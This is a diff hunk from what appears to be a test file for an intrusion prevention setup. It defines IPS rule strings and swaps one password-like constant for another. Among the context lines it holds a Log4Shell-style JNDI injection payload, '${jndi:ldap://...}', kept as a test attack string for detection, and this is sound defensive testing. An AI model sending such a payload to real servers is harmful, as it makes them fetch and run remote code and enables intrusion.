@@ -14,7 +14,7 @@ OWN = 'drop tcp any any -> any 8080 (msg:"own rule"; flow:to_server; content:"/e
 COSTLY = 'alert udp any any -> any 9 (msg:"costly"; pcre:"/(a|aa)+[bc]$/"; sid:1000009; rev:1;)'
 ATTACK = "/?x=${jndi:ldap://192.0.2.9/a}"
 ATTACK_RULE = "1:9100001"
-SECOND = "Second-Horse-8-Battery"
+SECOND = "Another-Horse-8-Battery"
 
 
 class IpsHosts(Hosts):
